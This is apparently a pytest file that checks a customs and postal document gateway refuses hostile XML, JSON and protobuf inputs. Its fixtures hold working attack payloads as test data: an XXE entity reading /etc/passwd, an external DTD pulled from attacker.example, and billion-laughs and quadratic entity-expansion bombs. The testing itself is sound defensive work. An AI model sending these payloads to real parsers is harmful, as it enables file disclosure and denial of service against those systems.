"""Hostile inputs: every one ends in DocumentError with a clear reason, for every decoder."""

from __future__ import annotations

import json
import pickle
from concurrent.futures import ThreadPoolExecutor

import pytest

from adapters import registry
from adapters.errors import DocumentError, UnknownFormat, Violation
from adapters.upu._xmlmap import parse_timestamp
from gateway.api.swg.v1 import item_pb2
from gateway.testing.documents import aed_batch
from adapters.xml import parse_json, parse_xml
from tests.support import wire

XML_FORMATS = ["upu.itmatt.v1", "upu.cusrsp.v1", "upu.ips.v1"]
# Every JSON format the registry knows, so that a new one is held to the same tests.
JSON_FORMATS = [n for n in registry.known_formats() if registry.get(n).media_type == "application/json"]
PROTOBUF_FORMATS = list(registry.DOCUMENT_TYPES)

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<itmatt:Itmatt xmlns:itmatt="urn:swg:upu:itmatt:v1"><itmatt:Item><itmatt:Id>&xxe;</itmatt:Id></itmatt:Item></itmatt:Itmatt>"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<ips xmlns="http://upu.int/ips"/>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ips xmlns="http://upu.int/ips">&lol4;</ips>"""

QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "' + b"x" * 50_000 + b'">]><ips xmlns="http://upu.int/ips">'
             + b"&a;" * 1000 + b"</ips>")

PLAIN_DOCTYPE = b'<!DOCTYPE ips><ips xmlns="http://upu.int/ips"/>'
LOWER_DOCTYPE = b'<!doctype ips><ips xmlns="http://upu.int/ips"/>'


def deep_xml(levels: int) -> bytes:
    return b'<ips xmlns="http://upu.int/ips">' + b"<a>" * levels + b"</a>" * levels + b"</ips>"


def deep_json(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


HOSTILE_XML = {
    "xxe": (XXE, "DOCTYPE"),
    "external dtd": (XXE_NETWORK, "DOCTYPE"),
    "billion laughs": (LAUGHS, "DOCTYPE"),
    "quadratic blow-up": (QUADRATIC, "DOCTYPE"),
    "doctype": (PLAIN_DOCTYPE, "DOCTYPE"),
    "doctype lower case": (LOWER_DOCTYPE, "DOCTYPE"),
    "deep nesting": (deep_xml(100), "deeper"),
    "very deep nesting": (deep_xml(100_000), ""),
    "invalid utf-8": ('<ips xmlns="http://upu.int/ips" ExportRef="é"/>'.encode("latin-1"), "UTF-8"),
    "nul byte": (b'<ips xmlns="http://upu.int/ips">\x00</ips>', "NUL"),
    "oversized": (b'<ips xmlns="http://upu.int/ips">' + b" " * (4 * 1024 * 1024) + b"</ips>", "limit"),
    "utf-16 declared": ('<?xml version="1.0" encoding="UTF-16"?><ips/>'.encode("utf-16"), ""),
    "latin-1 declared": (b'<?xml version="1.0" encoding="ISO-8859-1"?><ips xmlns="http://upu.int/ips"/>', "UTF-8"),
    "not xml": (b"hello", "well-formed"),
    "empty": (b"", "empty"),
    "unclosed": (b'<ips xmlns="http://upu.int/ips">', "well-formed"),
}


@pytest.mark.parametrize("fmt", XML_FORMATS)
@pytest.mark.parametrize("case", list(HOSTILE_XML))
def test_hostile_xml_refused(fmt: str, case: str) -> None:
    content, reason = HOSTILE_XML[case]
    with pytest.raises(DocumentError) as info:
        registry.decode(fmt, content)
    assert reason in str(info.value)
    assert info.value.violations and all(v.reason for v in info.value.violations)


def test_xxe_never_reads_the_file() -> None:
    with pytest.raises(DocumentError) as info:
        parse_xml(XXE)
    assert "root:" not in str(info.value)


def test_entity_declaration_refused_even_without_doctype_keyword_case() -> None:
    with pytest.raises(DocumentError):
        parse_xml(b'<!DoCtYpE x [<!ENTITY a "b">]><x>&a;</x>')


def test_undeclared_entity_is_not_well_formed() -> None:
    with pytest.raises(DocumentError, match="well-formed"):
        parse_xml(b"<x>&a;</x>")


def test_limits_are_parameters() -> None:
    doc = b"<a><b><c/></b></a>"
    assert parse_xml(doc, max_depth=3) is not None
    with pytest.raises(DocumentError, match="deeper"):
        parse_xml(doc, max_depth=2)
    with pytest.raises(DocumentError, match="limit of 10 bytes"):
        parse_xml(doc, max_bytes=10)


def test_depth_limit_counts_comments_and_allows_exactly_the_limit() -> None:
    at_limit = b"<a>" * 32 + b"</a>" * 32
    assert parse_xml(at_limit) is not None
    with pytest.raises(DocumentError, match="deeper than the limit of 32 levels"):
        parse_xml(b"<a>" * 32 + b"<!-- one level too deep -->" + b"</a>" * 32)
    with pytest.raises(DocumentError, match="deeper than the limit of 32 levels"):
        parse_xml(b"<a>" * 20 + b"<b/>" + b"<a>" * 13 + b"</a>" * 33)


@pytest.mark.parametrize("limit", [1, 5, 200, 256, 257, 1_000_000])
def test_any_depth_limit_is_enforced_exactly(limit: int) -> None:
    """Limits beyond what libxml2 parses (256 levels) are accepted as parameters, not an error."""
    levels = min(limit, 200)
    doc = b"<a>" * levels + b"</a>" * levels
    assert parse_xml(doc, max_depth=limit) is not None
    with pytest.raises(DocumentError, match=f"deeper than the limit of {levels - 1} levels"):
        parse_xml(doc, max_depth=levels - 1)


def test_a_refused_document_does_not_affect_the_next_parse() -> None:
    """The hardened parser is reused per thread: a failed parse must leave nothing behind."""
    for bad in (b"<x>&a;</x>", b"<x><y></x>", b"<a>" * 40 + b"</a>" * 40):
        with pytest.raises(DocumentError):
            parse_xml(bad)
        assert parse_xml(b"<x><y>ok</y></x>").findtext("y") == "ok"


def test_parsing_in_other_threads_is_just_as_strict() -> None:
    with ThreadPoolExecutor(4) as pool:
        outcomes = list(pool.map(_outcome, [XXE, deep_xml(40), b"<x><y>ok</y></x>"] * 4))
    assert outcomes == [("error", "DOCTYPE"), ("error", "deeper"), ("ok", "ok")] * 4


def _outcome(content: bytes) -> tuple[str, str]:
    try:
        return "ok", parse_xml(content).findtext("y") or ""
    except DocumentError as exc:
        return "error", "DOCTYPE" if "DOCTYPE" in str(exc) else "deeper" if "deeper" in str(exc) else str(exc)


HOSTILE_JSON = {
    "deep nesting": (deep_json(1000), "deeper"),
    "very deep nesting": (deep_json(200_000), "deeper"),
    "invalid utf-8": (b'{"Items": ["\xff"]}', "UTF-8"),
    "nul byte": (b'{"Items": []}\x00', "NUL"),
    "oversized": (b'{"Items": [' + b"0," * (2 * 1024 * 1024 + 1) + b"0]}", "limit"),
    "not json": (b"{nope", ""),
    "empty": (b"   ", "empty"),
}


@pytest.mark.parametrize("fmt", JSON_FORMATS)
@pytest.mark.parametrize("case", list(HOSTILE_JSON))
def test_hostile_json_refused(fmt: str, case: str) -> None:
    content, reason = HOSTILE_JSON[case]
    with pytest.raises(DocumentError) as info:
        registry.decode(fmt, content)
    assert reason in str(info.value)


def test_json_depth_ignores_brackets_in_strings() -> None:
    assert parse_json(b'{"a": "' + b"[" * 1000 + b'"}') == {"a": "[" * 1000}


def test_json_nan_refused() -> None:
    with pytest.raises(DocumentError):
        parse_json(b'{"a": NaN}')


@pytest.mark.parametrize("fmt", ["swg.aed.v1", "swg.inspection.v1"])
def test_protobuf_oversized_and_garbage(fmt: str) -> None:
    with pytest.raises(DocumentError, match="limit"):
        registry.decode(fmt, b"\x0a" * (4 * 1024 * 1024 + 1))
    with pytest.raises(DocumentError):
        registry.decode(fmt, b"\xff\xff\xff\xff")


def test_unpaired_surrogate_escape_in_a_json_key_is_a_document_error() -> None:
    from adapters import registry
    from adapters.errors import DocumentError

    with pytest.raises(DocumentError) as err:
        registry.decode("swg.aed.v1+json", b'{"items": [{"\\ud800itemId": "RR123456785DE"}]}')
    assert "surrogate" in str(err.value)


def test_json_with_a_duplicate_key_is_refused_at_any_depth() -> None:
    # Which of two equal keys wins differs between parsers: the gateway and the recipient could read two values.
    for doc in (b'{"a": 1, "a": 2}', b'{"items": [{"id": "RR123456785DE", "id": "CP000000014CN"}]}'):
        with pytest.raises(DocumentError, match="duplicate key"):
            parse_json(doc)


@pytest.mark.parametrize("fmt", JSON_FORMATS)
def test_every_json_format_refuses_duplicate_keys(fmt: str) -> None:
    with pytest.raises(DocumentError, match="duplicate key"):
        registry.decode(fmt, b'{"x": 1, "x": 1}')


def test_the_json_formats_are_all_there() -> None:
    assert {"wco.ecommerce.v1", "swg.aed.v1+json", "swg.inspection.v1+json", "swg.revenue.v1+json",
            "swg.assistance.request.v1+json", "swg.assistance.response.v1+json"} <= set(JSON_FORMATS)


ARABIC_INDIC = "\u0660\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669"
FULLWIDTH = "０１２３４５６７８９"


def _aed_json(**changes: object) -> dict[str, object]:
    doc = json.loads(registry.encode("swg.aed.v1+json", registry.AED, aed_batch(1)))
    item = doc["items"][0]
    for key, value in changes.items():
        target = item["contents"][0] if key in ("quantity", "index") else item
        target[key] = value
    return dict(doc)


@pytest.mark.parametrize("digits", [ARABIC_INDIC, FULLWIDTH], ids=["arabic-indic", "fullwidth"])
@pytest.mark.parametrize(("field", "value", "pointer"), [
    ("quantity", "{1}{2}", "/items/0/contents/0/quantity"),
    ("index", "{3}", "/items/0/contents/0/index"),
    ("category", "{3}{1}", "/items/0/category"),
    ("postedAt", "{2}{0}{2}{6}-11-28T10:00:00Z", "/items/0/postedAt"),
])
def test_canonical_json_numbers_and_dates_take_ascii_digits_only(digits: str, field: str, value: str,
                                                                 pointer: str) -> None:
    """protobuf's JSON parser reads numbers given as strings with int() and dates with its own parser: both
    take any Unicode decimal digit. The same value with ASCII digits is accepted."""
    ascii_value = value.format(*"0123456789")
    registry.decode("swg.aed.v1+json", json.dumps(_aed_json(**{field: ascii_value})).encode())
    with pytest.raises(DocumentError) as err:
        registry.decode("swg.aed.v1+json", json.dumps(_aed_json(**{field: value.format(*digits)})).encode())
    assert [v.path for v in err.value.violations] == [pointer]
    assert "ASCII" in err.value.violations[0].reason


def test_canonical_json_text_fields_keep_any_digits() -> None:
    doc = _aed_json()
    doc["items"][0]["contents"][0]["description"] = "scarf " + ARABIC_INDIC  # type: ignore[index]
    _, msg = registry.decode("swg.aed.v1+json", json.dumps(doc).encode())
    assert msg.items[0].contents[0].description.endswith(ARABIC_INDIC)  # type: ignore[attr-defined]


@pytest.mark.parametrize("digits", [ARABIC_INDIC, FULLWIDTH], ids=["arabic-indic", "fullwidth"])
def test_dates_in_xml_and_wco_json_take_ascii_digits_only(digits: str) -> None:
    text = "{2}{0}{2}{6}-11-28T10:00:00Z".format(*digits)
    assert parse_timestamp("2026-11-28T10:00:00Z").seconds > 0
    with pytest.raises(ValueError, match="ASCII"):
        parse_timestamp(text)


def _unknown(number: int, payload: bytes) -> bytes:
    assert number < 2048 and len(payload) < 128
    tag = number << 3 | 2
    return bytes([tag & 0x7F | 0x80, tag >> 7]) + bytes([len(payload)]) + payload


@pytest.mark.parametrize("fmt", PROTOBUF_FORMATS)
def test_every_protobuf_format_refuses_unknown_fields(fmt: str) -> None:
    with pytest.raises(DocumentError) as err:
        registry.decode(fmt, _unknown(999, b"\x00\x01\x02"))
    assert err.value.violations[0].path == "/"
    assert "unknown field number 999" in err.value.violations[0].reason


def test_unknown_fields_are_found_at_any_depth_with_their_path() -> None:
    batch = aed_batch(2)
    piece = batch.items[1].contents[0].SerializeToString() + _unknown(999, b"x")
    second = batch.items[1]
    del second.contents[:]
    content = (wire.field(1, batch.items[0].SerializeToString())
               + wire.field(1, second.SerializeToString() + wire.field(20, piece) + _unknown(998, b"y")))
    assert item_pb2.ItemBatch.FromString(content).items[1].contents[0].description == "Wool scarf"
    with pytest.raises(DocumentError) as err:
        registry.decode("swg.aed.v1", content)
    assert {(v.path, v.reason.split(" (")[0]) for v in err.value.violations} == {
        ("items[1]", "unknown field number 998"), ("items[1].contents[0]", "unknown field number 999")}


def test_document_errors_cross_process_boundaries_intact() -> None:
    """The node decodes large documents in worker processes: their errors come back pickled."""
    err = DocumentError([Violation("items[0].item_id", "bad")], summary="invalid swg.aed.v1 document")
    back = pickle.loads(pickle.dumps(err))
    assert (back.violations, back.summary, str(back)) == (err.violations, err.summary, str(err))
    unknown = pickle.loads(pickle.dumps(UnknownFormat("x.v1", ["a", "b"])))
    assert (unknown.format, str(unknown)) == ("x.v1", str(UnknownFormat("x.v1", ["a", "b"])))
